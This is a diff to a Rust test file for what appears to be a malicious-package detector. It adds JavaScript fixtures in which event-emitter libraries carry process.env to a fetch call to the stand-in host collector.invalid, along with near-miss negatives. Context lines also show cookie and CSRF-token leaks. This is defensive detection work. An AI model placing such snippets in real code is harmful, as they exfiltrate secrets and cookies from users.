@@ -9,7 +9,7 @@ use super::{installed, run};
 use crate::Facts;
 
 use SinkKind::{Http, Socket};
-use SourceKind::WalletOrProfile;
+use SourceKind::{Environment, WalletOrProfile};
 
 /// Facts of a package whose main file is `index.js`, where an import runs it.
 fn imported(files: &[(&str, &str)]) -> Facts {
@@ -93,6 +93,31 @@ fn cookies_leave_by_requests_that_are_opened_first() {
             "const x = new XMLHttpRequest(); x.open('GET', 'https://api.example'); x.setRequestHeader('cookie', document.cookie); x.send()",
             "const m = document.cookie.match(/csrf=([^;]*)/); const x = new XMLHttpRequest(); x.open('POST', 'https://api.example'); x.setRequestHeader('x-csrf-token', m && m[1]); x.send('{}')",
             "indexedDB; const x = new XMLHttpRequest(); x.open('POST', 'https://api.example'); x.send(localStorage.getItem('draft'))",
+        ],
+    );
+}
+
+#[test]
+fn emitters_of_packages_hand_on_what_they_are_told() {
+    are_told_apart(
+        Environment,
+        &[
+            "import mitt from 'mitt'; const e = mitt(); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
+            "const mitt = require('mitt'); const e = mitt(); e.on('*', (type, v) => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
+            "import { createNanoEvents } from 'nanoevents'; const e = createNanoEvents(); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
+            "const { createNanoEvents } = require('nanoevents'); class Bus { constructor() { this.emitter = createNanoEvents() } on(name, f) { return this.emitter.on(name, f) } } const bus = new Bus(); bus.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); bus.emitter.emit('x', process.env)",
+            "const EventEmitter = require('eventemitter3'); const e = new EventEmitter(); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
+            "import { EventEmitter } from 'eventemitter3'; class Bus extends EventEmitter {} const e = new Bus(); e.once('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
+            "const Emitter = require('tiny-emitter'); const e = new Emitter(); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
+            "const e = require('tiny-emitter/instance'); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); require('tiny-emitter/instance').emit('x', process.env)",
+        ],
+        &[
+            "import mitt from 'mitt'; const e = mitt(); e.on('x', v => fetch('https://api.example', { body: JSON.stringify(v) })); e.on('y', v => console.log(v)); e.emit('y', process.env)",
+            "import mitt from 'mitt'; const a = mitt(), b = mitt(); a.on('x', v => fetch('https://api.example', { body: JSON.stringify(v) })); b.emit('x', process.env)",
+            "import mitt from 'mitt'; const e = mitt(); e.on('*', (type, v) => fetch('https://api.example', { body: type })); e.emit('x', process.env)",
+            "import { createNanoEvents } from 'nanoevents'; const e = createNanoEvents(); e.on('x', () => fetch('https://api.example')); e.emit('x', process.env)",
+            "const EventEmitter = require('eventemitter3'); const e = new EventEmitter(); e.on('x', v => fetch('https://api.example', { body: v.NODE_ENV })); e.emit('x', process.env)",
+            "const e = require('tiny-emitter/instance'); e.on('x', v => fetch('https://api.example', { body: v })); e.emit('x', process.version); e.emit('y', process.env)",
         ],
     );
 }
